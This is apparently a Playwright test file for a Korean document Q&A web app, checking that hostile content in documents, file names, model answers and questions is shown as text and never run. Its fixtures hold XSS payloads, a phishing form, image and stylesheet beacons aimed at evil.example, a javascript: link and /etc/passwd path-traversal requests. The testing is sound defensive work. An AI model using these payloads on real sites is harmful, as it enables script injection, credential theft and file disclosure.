"""Hostile words from a document, its name, its title, a model's answer and a question: shown as words, nothing more.

The ``page`` fixture sees to the rest after every test: no script of theirs has run, nothing was asked of the outside,
and the browser's console is silent, so that not even the security policy had anything to stop.
"""

import contextlib
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from index.encoder import BUILT_IN, open_encoder
from index.library import Library
from ingest.korean import Korean
from tests.browser.pages import NEEDS_CHROMIUM, ask, shoot
from tests.chat_server import Script, chat_server
from tests.page_server import Served, served

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = [pytest.mark.slow, NEEDS_CHROMIUM]

RUN = "window.broken=1"
LIVELY = (
    f"<script>{RUN}</script>",
    f'<img src="http://evil.example/a.png" onerror="{RUN}">',
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<details open ontoggle="{RUN}">펼침</details>',
    '<form action="http://evil.example/"><input name="password" autofocus><button>로그인</button></form>',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">세션이 만료되었습니다</div>',
    '<style>body{display:none}</style><link rel="stylesheet" href="http://evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">',
    '<a href="#cite-0-1" class="cite">[1]</a><a href="#cite-77-7">근거</a><mark id="quote">표시</mark>',
    '<button data-act="whole" data-more="1" data-go="0">누름</button>',
    f"<!--><script>{RUN}</script>-->",
    f"</p></div></section></article><script>{RUN}</script>",
    f"${{{RUN}}} {{{{{RUN}}}}} {{{{constructor.constructor('{RUN}')()}}}} {{{{#each this}}}}{{{{/each}}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#x3C;script&#x3E;",
    "\u202egnirts\u202c",
)
MARKDOWN = (
    "![그림](http://evil.example/b.png?q=비밀)",
    f"[누르세요](javascript:{RUN})",
    "[밖으로](http://evil.example/)",
    "[1](#cite-0-99)",
    "[[1]](#cite-5-5)",
    f'<img src=x onerror="{RUN}">',
    "**연차(15일)**는 2020~2023년, 매년 1~3월에 씁니다.",
)
# A slash can't stand in a file's name, and 255 bytes are all it has.
NAME = f"<img src=x onerror={RUN}>${{{RUN}}}{{{{{RUN}}}}}<script>{RUN}.txt"
TITLE = f'2025년 온빛시 <script>{RUN}</script> 계획 "onmouseover={RUN}"'
TEXT = "\n".join(
    (
        TITLE + "\n",
        f"1. 투자 <img src=x onerror={RUN}> 계획\n",
        "□ 2025년에 온빛시는 모두 1조 2,340억원을 투자할 계획임\n",
        "2. 표기\n",
        *(f"□ 도서관 누리집에는 {words} 표기를 쓰지 않음\n" for words in (*LIVELY, *MARKDOWN)),
        f"< 분야별 <script>{RUN}</script> 투자계획(억원) >",
        f"분야\t2024년 <b onclick={RUN}>예산</b>\t2025년 예산",
        *(f"{words}\t275\t{words}" for words in LIVELY[:6]),
    )
)
TOTAL = "2025년에 온빛시가 투자하는 금액은 모두 얼마인가요?"
TRUE = "2025년에 온빛시는 모두 1조 2,340억원을 투자할 계획입니다. [1]"
# What none of our own pages holds, and no answer or document may bring.
STRANGE = "script, img, svg, iframe, form, style, link, meta, base, object, embed, video, audio, details:not(.outline)"


@pytest.fixture(scope="module")
def script() -> Script:
    return Script(pieces=(TRUE,))


@pytest.fixture(scope="module")
def page_server(tmp_path_factory: pytest.TempPathFactory, korean: Korean, script: Script) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / NAME).write_text(TEXT, encoding="utf-8")
    with contextlib.closing(Library.open_or_create(folder / "library", korean, open_encoder(BUILT_IN))) as library:
        assert not library.add([folder / NAME]).failed
    with chat_server(script) as address:
        settings = {"MUNDAP_MODEL": f"<b>{RUN}</b>", "OPENAI_BASE_URL": address, "OPENAI_API_KEY": "key"}
        with served(folder / "library", folder / "errors.txt", settings) as running:
            yield running
    assert "Traceback" not in (folder / "errors.txt").read_text()


def answered(page: "Page", script: Script, *words: str, question: str = TOTAL) -> str:
    """Let the model say the words, piece by piece, and give what is read then."""
    whole = "\n\n".join((TRUE, *words))
    script.pieces = re.findall(r"(?s).{1,7}", whole)
    ask(page, question)
    return page.locator("#current .answer").inner_text()


def harmless(page: "Page") -> None:
    """Nothing strange stands in the page, nothing covers it, and every link is one of ours."""
    for place in ("#log", "#source", "#header"):
        assert page.locator(place).locator(STRANGE).count() == 0
    handled = "[...document.querySelectorAll('.turn *, #source article *')].filter(one => [...one.attributes].some("
    handled += "attribute => attribute.value && /^on|^style$|^srcdoc$/.test(attribute.name))).map(one => one.outerHTML)"
    assert page.evaluate(handled) == []
    links = page.locator("#log a, #source a").evaluate_all("all => all.map(one => one.getAttribute('href'))")
    turns = page.locator(".turn").count()
    for href in links:
        cited = re.fullmatch(r"#cite-(\d+)-(\d+)", href)
        assert (cited and int(cited[1]) < turns and int(cited[2]) < 30) or re.match(
            r"#turn-\d+$|/original\?name=", href
        )
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    fixed = "[...document.querySelectorAll('.turn :not(.told), #source article *')].filter(one =>"
    assert page.evaluate(f"{fixed} getComputedStyle(one).position === 'fixed').map(one => one.className)") == []
    assert page.evaluate("location.pathname") == "/"


def test_a_hostile_document_is_read_as_it_is_written(page: "Page", script: Script) -> None:
    assert "1조 2,340억원" in answered(page, script)
    page.locator("#current .words a.cite").first.click()
    page.locator("#quote").wait_for()
    assert page.locator("#source-title").inner_text() == TITLE
    assert page.locator("#source-place").inner_text() == NAME
    page.get_by_role("button", name="문서 전체 보기").click()
    page.locator(".find").wait_for()
    for words in ("2,340억원", "세션이 만료", "onclick"):
        page.get_by_label("이 문서에서 찾기").fill(words)
        here = "words => String([...(CSS.highlights.get('found-here') ?? [])][0]) === words"
        page.wait_for_function(here, arg=words)
    while page.locator("[data-more='1']").count():
        page.locator("[data-more='1']").first.click()
        page.wait_for_timeout(150)
    shown = page.locator("#source .text").inner_text()
    for words in (*LIVELY[:-1], *MARKDOWN):
        assert " ".join(words.split()) in " ".join(shown.split())
    assert "\u202e" not in page.locator("#source").inner_html()
    assert page.locator("#source td", has_text="<script>").count() > 0
    shoot(page, "hostile-document")
    harmless(page)


@pytest.mark.parametrize("words", LIVELY)
def test_a_model_that_writes_markup_writes_words(page: "Page", script: Script, words: str) -> None:
    shown = answered(page, script, f"표기는 {words} 입니다. [1]")
    assert "1조 2,340억원" in shown
    harmless(page)
    page.locator("#current .words a.cite").first.click()
    page.locator("#quote").wait_for()
    harmless(page)


def test_a_model_that_writes_markdown_brings_in_no_image_and_no_link(page: "Page", script: Script) -> None:
    shown = answered(page, script, *(f"{words} [1]" for words in MARKDOWN))
    assert "evil.example" not in page.locator("#current .words").inner_html()
    assert "javascript:" not in page.locator("#current .words").inner_html()
    shoot(page, "hostile-model")
    harmless(page)
    assert "2020~2023년" in "".join(shown.split("✓"))
    assert "1~3월" in "".join(shown.split("✓"))
    assert page.locator("#current del, #current s").count() == 0
    assert page.locator("#current strong", has_text="연차").count() == 1
    assert "**" not in shown


def test_a_hostile_question_stays_words(page: "Page", script: Script) -> None:
    question = " ".join((TOTAL, *LIVELY[:8], *MARKDOWN[:3]))
    answered(page, script, question=question)
    assert "<script>" in page.locator("#current .question").inner_text()
    answered(page, script, question=TOTAL)
    assert "<script>" in page.locator("#past .question").first.inner_text()
    shoot(page, "hostile-question")
    harmless(page)


def test_a_forged_citation_opens_nothing_and_the_page_goes_on(page: "Page", script: Script) -> None:
    answered(page, script)
    forge = """hrefs => hrefs.forEach(href => {
        const link = document.createElement('a');
        link.setAttribute('href', href);
        document.querySelector('#current .words').append(link);
        link.click();
        link.remove();
    })"""
    page.evaluate(forge, ["#cite-0-99", "#cite-9-1", "#cite-999999-999"])
    page.wait_for_timeout(600)
    assert page.locator("#quote").count() == 0
    page.locator("#current .words a.cite").first.click()
    page.locator("#quote").wait_for()
    assert "1조 2,340억원" in answered(page, script)
    harmless(page)


def test_the_names_that_are_asked_for_are_looked_up_and_nothing_else(page: "Page", page_server: Served) -> None:
    for path in (
        "/original?name=../../../etc/passwd",
        "/original?name=/etc/passwd",
        "/original?name=%00",
        "/reading?name=../library.sqlite3&unit=0&way=1",
    ):
        answer = page.request.get(page_server.address + path)
        assert answer.status == 404
        assert "root:" not in answer.text()


def test_the_name_of_a_hostile_file_is_kept_by_a_download(page: "Page", script: Script) -> None:
    answered(page, script)
    page.locator("#current .words a.cite").first.click()
    page.locator("#quote").wait_for()
    with page.expect_download() as fetched:
        page.get_by_role("link", name="원문 열기").click()
    assert Path(fetched.value.path()).read_text(encoding="utf-8") == TEXT
    assert fetched.value.suggested_filename.endswith(".txt")
